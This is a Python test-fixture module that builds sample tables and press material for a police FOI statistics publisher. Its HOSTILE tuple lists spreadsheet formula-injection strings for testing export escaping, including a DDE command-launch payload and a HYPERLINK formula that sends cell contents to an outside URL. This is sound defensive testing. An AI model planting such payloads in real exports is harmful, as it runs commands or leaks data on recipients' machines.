"""A publication with every kind of value, for the tests of all formats."""

from datetime import date
from decimal import Decimal

from foitracker.periods import financial_year
from foitracker.publishing.place_figures import Level
from foitracker.publishing.press import Claim, Line, Press
from foitracker.publishing.publication import Publication, Source
from foitracker.publishing.table import Bounds, Column, Kind, Mark, Table

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+44 20",
    "-5",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "a;=1+1",
    'a","=1+1',
    "a\n=1+1",
    "{=1+1}",
    "http://example.org",
)


def make_table(*, name="by_force", title="Offences by force", columns=None, rows=None, notes=("A note.",)):
    return Table(
        name=name,
        title=title,
        columns=columns
        or (
            Column("force", "Force"),
            Column("before", "Offences 2016/17", Kind.COUNT),
            Column("after", "Offences 2017/18", Kind.COUNT),
            Column("change", "Change, per cent", Kind.PERCENT),
            Column("rate", "Rate per 10,000 children", Kind.RATE),
            Column("answered_on", "Answered on", Kind.DATE),
        ),
        rows=rows
        or (
            ("Kent", 591, 674, Decimal("14.0"), Decimal("21.38"), date(2018, 5, 1)),
            ("Essex", 0, Bounds(3, 7), Mark.NOT_AVAILABLE, Mark.NOT_APPLICABLE, date(2018, 5, 2)),
            ("Gwent", Mark.NOT_AVAILABLE, Mark.CONFIDENTIAL, Decimal("-0.33"), Decimal("0"), Mark.NOT_AVAILABLE),
        ),
        period="2016/17 and 2017/18",
        units="recorded offences",
        source="answers of police forces to freedom-of-information requests",
        coverage="2 of 3 forces",
        notes=notes,
    )


def make_publication(
    *, tables=None, title="Child abuse image offences", made_on=date(2018, 9, 13), sources=None, **fields
):
    return Publication(
        title=title,
        summary=("674 offences in 2017/18.", "=1+1 is no formula here."),
        tables=(make_table(), make_hostile_table()) if tables is None else tables,
        made_on=made_on,
        publisher="A charity",
        contact="press@example.org",
        notes=("More recorded offences do not by themselves mean more abuse.",),
        sources=(make_source(),) if sources is None else sources,
        **fields,
    )


def make_line(text="Kent Police recorded 674 offences in 2017/18, up from 591 in 2016/17."):
    """A line of Kent with its two numbers."""
    claims = (
        Claim(21, 33, Level.FORCE, "kent", financial_year(2017)),
        Claim(54, 57, Level.FORCE, "kent", financial_year(2016), "possession"),
    )
    return Line(Level.FORCE, "kent", "Kent Police", "South East", text, claims, ("A caveat.",))


def make_press(*, lines=None, embargo="Embargoed until 00:01 BST on Friday 14 September 2018"):
    return Press((make_line(),) if lines is None else lines, ("Who was asked.", "=1+1 is a note."), embargo)


def make_hostile_table():
    return make_table(
        name="hostile",
        title="=Texts that would be formulas",
        columns=(Column("text", "=Text"), Column("number", "Number", Kind.COUNT)),
        rows=tuple((text, at) for at, text in enumerate(HOSTILE)),
        notes=(),
    )


def make_source(raw="674", number=674):
    return Source("Kent", "2017/18", "making", "answer.xlsx", "ab" * 32, "Sheet 1", "B11", raw, number)


TWO_COLUMNS = (Column("force", "Force"), Column("images", "Offences", Kind.COUNT))


def table_of_two(rows=(("Kent", 674),), columns=TWO_COLUMNS, **details):
    words = {"title": "Offences by force", "period": "2017/18", "units": "offences", "source": "FOI", "coverage": "all"}
    return Table(**({"name": "by_force", "columns": columns, "rows": rows} | words | details))
